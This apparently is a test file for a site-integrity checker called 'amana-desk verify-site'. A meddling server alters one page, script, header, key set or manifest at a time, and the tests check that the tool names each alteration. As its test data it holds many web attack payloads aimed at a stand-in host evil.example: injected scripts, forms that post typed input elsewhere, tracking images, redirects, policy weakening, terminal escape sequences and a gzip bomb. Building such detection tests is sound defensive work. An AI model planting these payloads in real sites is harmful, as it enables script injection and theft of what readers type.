// SPDX-License-Identifier: AGPL-3.0-or-later
//
// amana-desk verify-site against a server that alters one thing at a time: each must be named in words that a person can act on,
// and an honest site must pass. Over TLS, through a SOCKS proxy, and as a saved folder.

import { execFile, execFileSync } from 'node:child_process';
import fs from 'node:fs';

import { freePort, program, scratch } from '../support/amana.mjs';
import { check, count, same, summary, test } from '../support/checks.mjs';
import { KeysAlone, signedNote, signer } from '../support/keyset.mjs';
import { Meddler, socksProxy } from '../support/meddler.mjs';
import { SignedSite, headersOf } from '../support/signed_site.mjs';

const folder = scratch('verify-site');
execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '30', '-subj', '/CN=localhost',
  '-addext', 'subjectAltName=DNS:localhost,DNS:amana.invalid', '-keyout', `${folder}/key.pem`, '-out', `${folder}/cert.pem`], { stdio: 'pipe' });
const tls = { key: fs.readFileSync(`${folder}/key.pem`), cert: fs.readFileSync(`${folder}/cert.pem`) };

const site = new SignedSite();
const port = await freePort();
const meddler = await Meddler.start((at) => site.answer(at), tls, port);

// { code, out, err } of verify-site.
function verify(where, args = []) {
  return new Promise((resolve) => {
    execFile(program('amana-desk'), ['verify-site', where, ...args], { encoding: 'buffer' }, (error, stdout, stderr) => {
      resolve({ code: error ? error.code : 0, out: stdout.toString('latin1'), err: stderr.toString('latin1') });
    });
  });
}
const usual = ['--root', site.fingerprint, '--release-key', site.releaseKey, '--ca', `${folder}/cert.pem`];
const look = (args = usual) => verify(meddler.url, args);

// No byte of what is printed may be a control character but a line's end, whatever the site sent.
const clean = (text) => [...text].every((c) => c === '\n' || (c.charCodeAt(0) >= 0x20 && c.charCodeAt(0) !== 0x7f));

// All of `words` must stand in one line that names the address.
function named(answer, where, words) {
  const lines = answer.out.split('\n').filter((line) => line.startsWith(`DIFFERS ${where}: `));
  const holds = lines.some((line) => words.every((word) => line.includes(word)));
  check(holds, `not named: ${where}: ${words.join(' ... ')}\n${answer.out}${answer.err}`);
}

const altered = (answer, from, to) => {
  const body = answer.body.toString('latin1');
  check(body.includes(from), `the meddling finds ${from}`);
  return { ...answer, body: Buffer.from(body.replace(from, to), 'latin1') };
};
const withHeader = (answer, name, value) => ({ ...answer, headers: [...answer.headers.filter(([n]) => n !== name), ...(value === null ? [] : [[name, value]])] });
const adding = (answer, name, value) => ({ ...answer, headers: [...answer.headers, [name, value]] });
const policyWith = (answer, change) => withHeader(answer, 'Content-Security-Policy', change(answer.headers.find(([n]) => n === 'Content-Security-Policy')[1]));
const token = /(?<=\/report\?)[\w-]{43}(?=")/;
const tokenAs = (answer, text) => {
  const body = answer.body.toString('latin1');
  check(token.test(body), 'the meddling finds the token');
  return { ...answer, body: Buffer.from(body.replace(token, text), 'latin1') };
};
const inForm = (html) => (a) => altered(a, '</form>', `</form>${html}`);

const otherRoot = new KeysAlone();
const thief = new SignedSite({ keys: new KeysAlone(), serial: 13 });
const olderRelease = (() => {
  const older = new SignedSite({ keys: site.keys, makers: site.makers, releaseSerial: 6 });
  return older.releaseNote;
})();

// [what, the address it alters, how, the address it is named at, words]
const meddlings = [
  // The six of the promise.
  ['one altered byte of script', '/script/page.js', (a) => altered(a, 'use strict', 'use strikt'), '/script/page.js', ['altered script']],
  ['an added file, loaded by an altered page', null, (at, a) => {
    if (at === '/ar/') return inForm('<script src="/script/extra.js"></script>')(a);
    return at === '/script/extra.js' ? { status: 200, headers: headersOf('script'), body: Buffer.from('steal()') } : null;
  }, '/ar/', ['/script/extra.js', 'an added file of 7 bytes']],
  ['an altered page', '/ar/help', (a) => altered(a, 'Help', 'Call +1 555'), '/ar/help', ['altered page']],
  ['a swapped key set', '/keys', (a) => ({ ...a, body: Buffer.from(otherRoot.note({ serial: 4 })) }), '/keys', ['swapped key set', 'not one that the root of your fingerprint signed']],
  ['a weaker policy', '/ar/', (a) => policyWith(a, (p) => p.replace("script-src '", "script-src 'unsafe-inline' '")), '/ar/', ['weaker Content-Security-Policy', "script-src also allows 'unsafe-inline'"]],
  ['an older release', '/manifest/release', (a) => ({ ...a, body: Buffer.from(olderRelease) }), '/manifest/release', ['another release', 'serial 6']],
  // Scripts.
  ['a script with something behind it', '/script/worker.js', (a) => ({ ...a, body: Buffer.concat([a.body, Buffer.from(';steal()')]) }), '/script/worker.js', ['altered script']],
  ['a script that is empty', '/script/worker.js', (a) => ({ ...a, body: Buffer.alloc(0) }), '/script/worker.js', ['altered script']],
  ['a script that is missing', '/script/page.js', (a) => ({ ...a, status: 404 }), '/script/page.js', ['missing']],
  ['a script moved elsewhere', '/script/page.js', (a) => adding({ ...a, status: 302 }, 'Location', 'https://evil.example/page.js'), '/script/page.js', ['status 302', 'leads to https://evil.example/page.js']],
  ['a script of another type', '/script/page.js', (a) => withHeader(a, 'Content-Type', 'text/html'), '/script/page.js', ['Content-Type', 'text/html']],
  ['a script larger than any', '/script/page.js', (a) => ({ ...a, body: Buffer.alloc(5 << 20, 'a') }), '/script/page.js', ['more than 4194304 bytes']],
  ["a worker's policy that lets it send anywhere", '/script/worker.js', (a) => policyWith(a, (p) => p.replace("connect-src 'self'", 'connect-src *')), '/script/worker.js', ['connect-src also allows *']],
  // What a page runs.
  ['an inline script', '/ar/', inForm('<script>steal()</script>'), '/ar/', ['runs a script that stands in the page', 'steal()']],
  ['the leaving script altered', '/en/', (a) => altered(a, 'pagehide', 'pageshow'), '/en/', ['runs a script that stands in the page']],
  ['a script from another site', '/ar/', inForm('<script src="https://evil.example/x.js"></script>'), '/ar/', ['runs the script https://evil.example/x.js', 'another site']],
  ['a script from another site, without a scheme', '/ar/', inForm('<script src="//evil.example/x.js"></script>'), '/ar/', ['runs the script //evil.example/x.js']],
  ['a script in a drawing', '/ar/', inForm('<svg><script xlink:href="//evil.example/x.js"></script></svg>'), '/ar/', ['evil.example']],
  ['an event handler', '/ar/', (a) => altered(a, '<button ', '<button onclick="steal()" '), '/ar/', ['button onclick', 'steal()']],
  ['an event handler of any element', '/ar/', inForm('<x-y tabindex=0 onFocus=steal() autofocus>'), '/ar/', ['onfocus']],
  ['a link that runs a script', '/ar/', inForm('<a href=" java&#x0a;script:steal()">here</a>'), '/ar/', ['a href']],
  ['integrity taken away', '/ar/', (a) => altered(a, ' integrity="', ' data-was="'), '/ar/', ['without saying its hash']],
  ['another integrity', '/ar/', (a) => altered(a, ' integrity="sha256-', ' integrity="sha256-A'), '/ar/', ['another hash (integrity)']],
  ["the worker's address", '/ar/', (a) => altered(a, 'data-worker="/script/worker.js"', 'data-worker="/script/w.js"'), '/ar/', ['data-worker', '/script/w.js']],
  ['the address of its settings', '/ar/', (a) => altered(a, '/ar/sealing.json', 'https://evil.example/sealing.json'), '/ar/', ['data-sealing', 'evil.example']],
  // What a page loads and sends.
  ['a form that is sent elsewhere', '/ar/', (a) => altered(a, 'action="/ar/report?', 'action="https://evil.example/report?'), '/ar/', ['sends what is typed to https://evil.example/report']],
  ['a button that sends elsewhere', '/ar/', (a) => altered(a, '<button ', '<button formaction="/collect" '), '/ar/', ['sends what is typed to /collect', 'button formaction']],
  ['a picture that tells of the reader', '/ar/', inForm('<img src="https://evil.example/p.gif">'), '/ar/', ['loads https://evil.example/p.gif']],
  ['a picture by srcset', '/ar/', inForm('<img srcset="/p.gif 2x">'), '/ar/', ['loads /p.gif 2x', 'img srcset']],
  ['a frame', '/ar/', inForm('<iframe src="https://evil.example/"></iframe>'), '/ar/', ['<iframe>']],
  ['a frame with its content in it', '/ar/', inForm('<iframe srcdoc="<script>steal()</script>"></iframe>'), '/ar/', ['srcdoc']],
  ['an embedded object', '/ar/', inForm('<object data="/x"></object>'), '/ar/', ['<object>']],
  ['a page that moves on', '/ar/', (a) => altered(a, '<meta charset', '<meta http-equiv="Refresh" content="0;url=https://evil.example/"><meta charset'), '/ar/', ['meta refresh', 'evil.example']],
  ['a base for all addresses', '/ar/', (a) => altered(a, '<meta charset', '<base href="https://evil.example/"><meta charset'), '/ar/', ['<base>']],
  ['a style from elsewhere', '/ar/', (a) => altered(a, '<meta charset', '<link rel="stylesheet" href="https://evil.example/s.css"><meta charset'), '/ar/', ['link href', 'evil.example']],
  ['a style that loads', '/ar/', (a) => altered(a, 'body{margin:0', 'body{background:url(//evil.example/b.png);margin:0'), '/ar/', ['<style> with url']],
  ['a style on an element', '/ar/', inForm('<p style="background:u\\72l(//evil.example)">'), '/ar/', ['p style']],
  ['something for those without a script', '/ar/', inForm('<noscript><img src=//evil.example/p></noscript>'), '/ar/', ['loads //evil.example/p']],
  ['a page of endless tags', '/ar/', (a) => ({ ...a, body: Buffer.from('<b>'.repeat(100000)) }), '/ar/', ['more tags than any page of ours']],
  // The token's place.
  ['a script in the token\'s place', '/ar/', (a) => tokenAs(a, '"><script>steal()</script><a id="'), '/ar/', ['runs a script that stands in the page', 'steal()']],
  ['a handler in the token\'s place', '/ar/', (a) => tokenAs(a, '" onsubmit="steal()'), '/ar/', ['form onsubmit']],
  ['a token of another length', '/ar/', (a) => tokenAs(a, 'A'.repeat(44)), '/ar/', ['altered page', 'signed were 2 others']],
  ['a token of other characters', '/ar/', (a) => tokenAs(a, `${'A'.repeat(42)}+`), '/ar/', ['altered page']],
  ['a token where none belongs', '/ar/', inForm(`<a href="/ar/report?${'A'.repeat(43)}">again</a>`), '/ar/', ['altered page']],
  ['a form that lacks what its token is for', '/ar/', (a) => ({ ...a, body: Buffer.from(a.body.toString('latin1').replace(/\?[\w-]{43}"/, '"'), 'latin1') }), '/ar/', ['altered page']],
  // Settings and keys.
  ['settings that name another root', '/ar/sealing.json', (a) => altered(a, site.fingerprint, thief.fingerprint), '/ar/sealing.json', ['believe the keys of another root']],
  ['settings that name none', '/ar/sealing.json', (a) => altered(a, '"root"', '"toor"'), '/ar/sealing.json', ['names no root']],
  ['a key set of the root, and an older one', '/keys', (a) => ({ ...a, body: Buffer.from(site.keys.note({ serial: 2 })) }), '/keys', ['swapped key set', 'serial 2']],
  ['a key set of another deployment', '/keys', (a) => ({ ...a, body: Buffer.from(site.keys.note({ serial: 3, deployment: 'elsewhere' })) }), '/keys', ['deployment elsewhere']],
  ['a key set with one bit changed', '/keys', (a) => altered(a, 'epoch desk', 'epoch desl'), '/keys', ['swapped key set']],
  ['a contact for security that is another', '/.well-known/security.txt', (a) => altered(a, 'security@', 'evil@'), '/.well-known/security.txt', ['altered page']],
  // Headers.
  ['no policy', '/ar/', (a) => withHeader(a, 'Content-Security-Policy', null), '/ar/', ['Content-Security-Policy', 'is missing']],
  ['a policy without Trusted Types', '/ar/', (a) => policyWith(a, (p) => p.replace("require-trusted-types-for 'script'; ", '')), '/ar/', ['require-trusted-types-for is missing']],
  ['a policy under which anybody may frame the page', '/ar/help', (a) => policyWith(a, (p) => p.replace("frame-ancestors 'none'", 'frame-ancestors *')), '/ar/help', ['frame-ancestors also allows *']],
  ['a second policy', '/ar/', (a) => adding(a, 'Content-Security-Policy', "script-src 'unsafe-eval'"), '/ar/', ['comes 2 times']],
  ['a policy that only reports', '/ar/', (a) => adding(a, 'Content-Security-Policy-Report-Only', 'default-src *; report-uri //evil.example'), '/ar/', ['not signed', 'report-only']],
  ['a referrer policy that tells', '/ar/', (a) => withHeader(a, 'Referrer-Policy', 'unsafe-url'), '/ar/', ['Referrer-Policy', 'unsafe-url']],
  ['a page that browsers keep', '/ar/', (a) => withHeader(a, 'Cache-Control', 'public, max-age=31536000'), '/ar/', ['Cache-Control']],
  ['no HSTS', '/ar/', (a) => withHeader(a, 'Strict-Transport-Security', null), '/ar/', ['Strict-Transport-Security', 'missing']],
  ['a cookie', '/ar/', (a) => adding(a, 'Set-Cookie', 'reader=17'), '/ar/', ['not signed', 'set-cookie: reader=17']],
  ['a link in the header', '/ar/', (a) => adding(a, 'Link', '<//evil.example/x.js>; rel=preload; as=script'), '/ar/', ['not signed', 'link:']],
  ['a refresh in the header', '/ar/', (a) => adding(a, 'Refresh', '0; url=https://evil.example/'), '/ar/', ['not signed', 'refresh:']],
  ['a mark to know a browser by', '/script/page.js', (a) => adding(a, 'ETag', '"reader-17"'), '/script/page.js', ['not signed', 'etag']],
  ['another way to the site', '/en/', (a) => adding(a, 'Alt-Svc', 'h3="evil.example:443"'), '/en/', ['not signed', 'alt-svc']],
  // Manifests.
  ['no manifest', '/manifest/site', (a) => ({ ...a, status: 404 }), '/manifest/site', ['no manifest of the site']],
  ['a manifest altered', '/manifest/site', (a) => altered(a, 'serial 12', 'serial 99'), '/manifest/site', ["root's signature"]],
  ["a thief's own site, whole", null, (at) => thief.answer(at), '/manifest/site', ['another root']],
  ['a manifest that is a page', '/manifest/site', (a) => ({ ...a, body: Buffer.from('<h1>Welcome</h1>') }), '/manifest/site', ['no signed manifest']],
  ['no release', '/manifest/release', (a) => ({ ...a, status: 404 }), '/manifest/release', ['no manifest of the release']],
  ["a release of another's key", '/manifest/release', (a) => ({ ...a, body: Buffer.from(signedNote(site.release, 'amana-release', signer())) }), '/manifest/release', ["not signed with the makers' key"]],
  ['a release altered', '/manifest/release', (a) => altered(a, 'version 0.5.0', 'version 0.5.1'), '/manifest/release', ["not signed with the makers' key"]],
  // What is nowhere.
  ['a page for every address', null, (at, a) => (a.status === 404 ? { ...a, status: 200 } : null), '/', ['answered with status 200', 'should be with 404']],
];

await test('an honest site passes', async () => {
  const answer = await look();
  same(answer.code, 0, `${answer.out}${answer.err}`);
  check(answer.out.startsWith('AS SIGNED: test, site 12, release 7 (0.5.0): 10 pages and files are as the manifests say.'), answer.out);
  const quiet = await look([...usual, '--quiet']);
  same([quiet.code, quiet.out, quiet.err], [0, '', ''], 'quiet');
  const onPaper = ['--root', site.fingerprint.toUpperCase().match(/.{4}/g).join(' '), '--ca', `${folder}/cert.pem`];
  same((await look(onPaper)).code, 0, 'the fingerprint as it stands on paper');
});

for (const [what, address, meddle, where, words] of meddlings)
  await test(`named: ${what}`, async () => {
    meddler.meddle = address === null ? meddle : (at, answer) => (at === address ? meddle(answer) : null);
    const answer = await look();
    meddler.meddle = null;
    same(answer.code, 3, `exit code\n${answer.out}${answer.err}`);
    if (where === '/') check(words.every((word) => answer.out.includes(word)), answer.out);
    else named(answer, where, words);
    check(clean(answer.out) && clean(answer.err), 'control characters');
    count('meddlings named');
  });

// Under pressure: the form's frame, and what stands in it.
const inLine = (change) => (at, a) => (at.startsWith('/ar/line?') ? change(a, at) : null);
const framings = [
  ["another token in the frame than in the form", (at, a) => (at === '/ar/' ? altered(a, '/ar/line?', `/ar/line?${'B'.repeat(43)}"><b id="`) : null), '/ar/', ['altered page']],
  ['a frame of another site', (at, a) => (at === '/ar/' ? altered(a, 'src="/ar/line', 'src="https://evil.example/ar/line') : null), '/ar/', ['has what no page of ours has: <iframe>', 'evil.example']],
  ["a frame with another language's line", (at, a) => (at === '/ar/' ? altered(a, 'src="/ar/line', 'src="/en/line') : null), '/ar/', ['<iframe>']],
  ['a frame on a page that is no form', (at, a) => (at === '/ar/help' ? altered(a, '</main>', `<iframe src="/ar/line?${'A'.repeat(43)}"></iframe></main>`) : null), '/ar/help', ['<iframe>']],
  ['a script in the line', inLine((a) => altered(a, '</body>', '<script>parent.steal()</script></body>')), '/ar/line', ['<script>', 'parent.steal()']],
  ["a script of the site's own in the line", inLine((a) => altered(a, '</body>', '<script src="/script/page.js"></script></body>')), '/ar/line', ['script src']],
  ['a line that leads elsewhere', inLine((a) => altered(a, 'url=/', 'url=//evil.example/')), '/ar/line', ['meta refresh', 'evil.example']],
  ["a line that asks for another's place", inLine((a, at) => altered(a, at.slice(-43), 'B'.repeat(43))), '/ar/line', ['meta refresh']],
  ['a line that loads', inLine((a) => altered(a, '<p>', '<img src="//evil.example/p"><p>')), '/ar/line', ['img src']],
  ['a line that asks for something', inLine((a) => altered(a, '<p>', '<form action="/ar/report"></form><p>')), '/ar/line', ['form action']],
];
await test('under pressure an honest site passes, and what is in the frame is looked at', async () => {
  site.variant = 1;
  const answer = await look();
  same(answer.code, 0, `${answer.out}${answer.err}`);
  for (const [what, meddle, where, words] of framings) {
    meddler.meddle = meddle;
    const altered_ = await look();
    meddler.meddle = null;
    same(altered_.code, 3, `${what}: exit code\n${altered_.out}${altered_.err}`);
    named(altered_, where, words);
    count('meddlings named');
  }
  meddler.meddle = inLine((a) => ({ ...a, status: 503 }));
  const busy = await look();
  meddler.meddle = null;
  check(busy.code === 1 && busy.out.includes('NOT LOOKED AT /ar/line'), busy.out);
  site.variant = 0;
});

await test("a site's bytes can do nothing to a terminal", async () => {
  const evil = '\u001b[2J\u001b]0;owned\u0007\u202eevil\u0000\r';
  const ways = [
    ['/ar/', (a) => inForm(`<script>${evil}</script><img src="${evil}"><form action="${evil}"></form><x${evil} on${evil}=1>`)({ ...a })],
    ['/ar/', (a) => ({ ...a, raw: `HTTP/1.1 302 Found\r\nLocation: ${evil}\r\nX-Evil: ${evil}\r\nContent-Length: 0\r\n\r\n` })],
    ['/manifest/site', (a) => ({ ...a, body: Buffer.from(`${evil}\n\n— ${evil}\n`) })],
    ['/ar/sealing.json', (a) => ({ ...a, body: Buffer.from(JSON.stringify({ root: evil })) })],
    ['/manifest/release', (a) => ({ ...a, body: Buffer.from(signedNote(`amana release v1\nserial 7\nversion \u202e\n`, 'amana-release', site.makers)) })],
  ];
  for (const [address, meddle] of ways) {
    meddler.meddle = (at, answer) => (at === address ? meddle(answer) : null);
    const answer = await look();
    meddler.meddle = null;
    check(answer.code === 3 || answer.code === 1, `exit code ${answer.code}\n${answer.out}`);
    check(clean(answer.out) && clean(answer.err) && !/\xe2\x80\xae/.test(answer.out + answer.err), 'control characters');
  }
});

await test('what was seen is remembered: an older site or release, and a second one of the same serial', async () => {
  const seen = [...usual, '--seen', `${folder}/seen`];
  same((await look(seen)).code, 0, 'first');
  same((await look(['--ca', `${folder}/cert.pem`, '--seen', `${folder}/seen`])).code, 0, 'the root is remembered');
  const serve = async (options, change = () => {}) => {
    const other = new SignedSite({ keys: site.keys, makers: site.makers, ...options });
    other.keySet = site.keySet;
    other.pages['/keys'][1] = site.keySet;
    change(other);
    other.sign();
    meddler.meddle = (at) => other.answer(at);
    const answer = await look(seen);
    meddler.meddle = null;
    return answer;
  };
  named(await serve({ serial: 11 }), '/manifest/site', ['an older site: serial 11, and serial 12 was seen before']);
  named(await serve({ serial: 13, releaseSerial: 6 }), '/manifest/release', ['an older release: serial 6, and serial 7 was seen before']);
  // The site of serial 13 was seen, too.
  named(await serve({}), '/manifest/site', ['an older site: serial 12, and serial 13']);
  named(await serve({ serial: 13 }, (other) => { other.pages['/ar/help'][1] += '!'; }), '/manifest/site', ['a second site under serial 13']);
  same((await serve({ serial: 14, releaseSerial: 8 })).code, 0, 'a newer one');
  named(await serve({ serial: 15, releaseSerial: 7 }), '/manifest/release', ['an older release: serial 7']);
  fs.writeFileSync(`${folder}/damaged`, 'x');
  same((await look([...usual, '--seen', `${folder}/damaged`])).code, 1, 'a damaged file');
  const other = await verify(meddler.url, ['--root', thief.fingerprint, '--ca', `${folder}/cert.pem`, '--seen', `${folder}/seen`]);
  check(other.code === 1 && other.err.includes('another root'), other.err);
});

await test('signed does not mean good: what the manifest should not have had in it is named', async () => {
  const other = new SignedSite({ keys: site.keys, makers: site.makers });
  other.pages['/script/page.js'][1] += ';';
  other.pages['/script/new.js'] = ['script', 'new()'];
  other.pages['/ar/help'][1] = other.pages['/ar/help'][1].replace('</main>', '<script>signed()</script></main>');
  other.sign();
  meddler.meddle = (at) => other.answer(at);
  const answer = await look();
  meddler.meddle = null;
  named(answer, '/script/page.js', ["of other bytes than the makers' release"]);
  named(answer, '/script/new.js', ["that the makers' release does not have"]);
  named(answer, '/ar/help', ['runs a script that stands in the page']);
});

await test('keys that have run out are named', async () => {
  const other = new SignedSite({ keys: new KeysAlone({ seconds: -30 }) });
  meddler.meddle = (at) => other.answer(at);
  named(await verify(meddler.url, ['--root', other.fingerprint, '--ca', `${folder}/cert.pem`]), '/keys', ['run out']);
  meddler.meddle = null;
});

await test('what can not be looked at is not called good, nor bad', async () => {
  const trouble = async (meddle, args = usual) => {
    meddler.meddle = meddle;
    const answer = await look(args);
    meddler.meddle = null;
    return answer;
  };
  const busy = await trouble((at, a) => (at === '/ar/' ? { ...a, status: 503 } : null));
  check(busy.code === 1 && busy.out.includes('NOT LOOKED AT /ar/'), busy.out);
  const silent = await trouble((at) => (at === '/ar/help' ? { never: true } : null), [...usual, '--seconds', '1']);
  check(silent.code === 1 && silent.out.includes('NOT LOOKED AT /ar/help'), silent.out);
  const cut = await trouble((at) => (at === '/en/' ? { raw: 'HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nx' } : null));
  check(cut.code === 1 && cut.out.includes('NOT LOOKED AT /en/'), cut.out);
  const endless = await trouble((at) => (at === '/en/' ? { raw: `HTTP/1.1 200 OK\r\n${'X-Y: zzzzzzzzzzzzzzzzzz\r\n'.repeat(10000)}\r\n` } : null));
  check(endless.code === 1 && endless.out.includes('NOT LOOKED AT /en/'), endless.out);
  const both = await trouble((at, a) => (at === '/en/' ? { ...a, status: 503 } : at === '/ar/help' ? { ...a, body: Buffer.from('x') } : null));
  same(both.code, 3, 'a difference counts, whatever else could not be looked at');
  const untrusted = await look(['--root', site.fingerprint]);
  check(untrusted.code === 1 && untrusted.out.includes('certificate'), untrusted.out);
  const nobody = await verify(`https://localhost:${await freePort()}`, usual);
  same([nobody.code, nobody.out.includes('NOT LOOKED AT')], [1, true], 'nobody there');
});

await test('a bomb of packed bytes is cut off', async () => {
  const { gzipSync } = await import('node:zlib');
  const bomb = gzipSync(Buffer.alloc(512 << 20));
  meddler.meddle = (at) => (at === '/ar/' ? { status: 200, plain: true, headers: [...headersOf('form'), ['Content-Encoding', 'gzip']], body: bomb } : null);
  const answer = await look();
  meddler.meddle = null;
  named(answer, '/ar/', ['more than 4194304 bytes']);
});

await test('through a SOCKS proxy, which alone looks names up', async () => {
  const listen = await freePort();
  const proxy = await socksProxy(listen, port);
  const through = (where) => verify(where, [...usual, '--proxy', `socks5h://127.0.0.1:${listen}`]);
  const answer = await through('https://amana.invalid');
  same(answer.code, 0, `${answer.out}${answer.err}`);
  check(proxy.names.length > 0 && proxy.names.every((name) => name === 'amana.invalid'), `${proxy.names}`);
  meddler.meddle = (at, a) => (at === '/script/page.js' ? altered(a, 'strict', 'strikt') : null);
  named(await through('https://amana.invalid'), '/script/page.js', ['altered script']);
  meddler.meddle = null;
  for (const wrong of ['socks5://127.0.0.1:9050', 'http://127.0.0.1:8080', 'socks5h://'])
    check((await verify('https://amana.invalid', [...usual, '--proxy', wrong])).err.includes('socks5h://HOST:PORT'), wrong);
  await new Promise((resolve) => { proxy.server.close(resolve); });
  same((await through('https://amana.invalid')).code, 1, 'without the proxy nothing goes out');
});

await test('the environment does not choose the way', async () => {
  const before = process.env.https_proxy;
  process.env.https_proxy = `http://127.0.0.1:${await freePort()}`;
  same((await look()).code, 0, 'a proxy of the environment');
  if (before === undefined) delete process.env.https_proxy; else process.env.https_proxy = before;
});

await test('a saved site', async () => {
  const saved = `${folder}/saved`;
  site.save(saved);
  const args = ['--root', site.fingerprint, '--release-key', site.releaseKey];
  const honest = await verify(saved, args);
  same(honest.code, 0, honest.out);
  check(honest.out.includes('A saved site has no headers'), honest.out);
  const change = async (file, write, where, words) => {
    const had = fs.existsSync(`${saved}${file}`) ? fs.readFileSync(`${saved}${file}`) : null;
    write(`${saved}${file}`, had);
    named(await verify(saved, args), where, words);
    fs.rmSync(`${saved}${file}`);
    if (had) fs.writeFileSync(`${saved}${file}`, had);
    count('changes to a saved site named');
  };
  await change('/script/worker.js', (file, had) => fs.writeFileSync(file, had.map((b, i) => (i === 5 ? b ^ 1 : b))), '/script/worker.js', ['altered script']);
  await change('/ar/index.html', (file, had) => fs.writeFileSync(file, `${had}x`), '/ar/', ['altered page']);
  await change('/script/sw.js', (file) => fs.writeFileSync(file, 'x'), '/script/sw.js', ['an added file']);
  await change('/en/index.html', (file) => fs.rmSync(file) ?? fs.writeFileSync(`${file}`, ''), '/en/', ['altered page']);
  await change('/.htaccess', (file) => fs.writeFileSync(file, 'Redirect / //evil'), '/.htaccess', ['an added file']);
  await change('/leads-out', (file) => fs.symlinkSync('/etc/passwd', file), '/leads-out', ['an added file']);
  fs.rmSync(`${saved}/ar/help`);
  named(await verify(saved, args), '/ar/help', ['missing']);
});

await test('what is not understood ends with 2, or says what to give', async () => {
  same((await verify(meddler.url, ['--root', 'abc'])).code, 2, 'a short fingerprint');
  same((await verify(meddler.url, ['--root', site.fingerprint, '--seconds', '0'])).code, 2, 'no time');
  same((await verify(meddler.url)).code, 2, 'no root');
  check((await verify(meddler.url, ['--seen', `${folder}/nothing`])).err.includes('--root FINGERPRINT'), 'no root, and nothing seen');
  for (const wrong of ['http://amana.invalid', 'ftp://amana.invalid', 'https://amana.invalid/ar/', 'https://a@amana.invalid', 'https://amana.invalid/?x', 'file:///etc/passwd'])
    check((await verify(wrong, usual)).err.includes('not a site\'s address'), wrong);
});

await meddler.stop();
summary('verify_site');
